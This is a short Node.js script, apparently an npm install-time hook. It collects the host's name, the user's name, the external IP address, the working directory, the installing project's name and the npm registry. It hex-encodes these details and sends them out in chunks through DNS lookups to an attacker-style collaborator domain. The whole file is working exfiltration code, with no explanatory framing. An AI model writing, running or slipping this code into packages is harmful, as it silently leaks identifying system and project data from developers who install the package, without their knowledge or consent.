const os = require('os'), dns = require('dns'), fs = require('fs'), path = require('path');
const pkg = require('./package.json');
function ip() {
  const n = os.networkInterfaces();
  for (const k of Object.keys(n)) for (const a of n[k]) if (a.family === 'IPv4' && !a.internal) return a.address;
  return '0';
}
function projectName() {
  try { return JSON.parse(fs.readFileSync(path.join(process.env.INIT_CWD || process.cwd(), 'package.json'), 'utf8')).name || ''; } catch (e) { return ''; }
}
const info = [os.hostname(), os.userInfo().username, ip(), process.env.INIT_CWD || process.cwd(), projectName(), process.env.npm_config_registry || '', pkg.version].join('|');
const hex = Buffer.from(info).toString('hex');
const id = Math.random().toString(16).slice(2, 8);
const parts = hex.match(/.{1,56}/g);
parts.forEach((p, i) => {
  dns.resolve4(`${i}-${parts.length}-${id}.${p}.dc.oastify-corvid.invalid`, () => {});
});
setTimeout(() => {}, 1500);
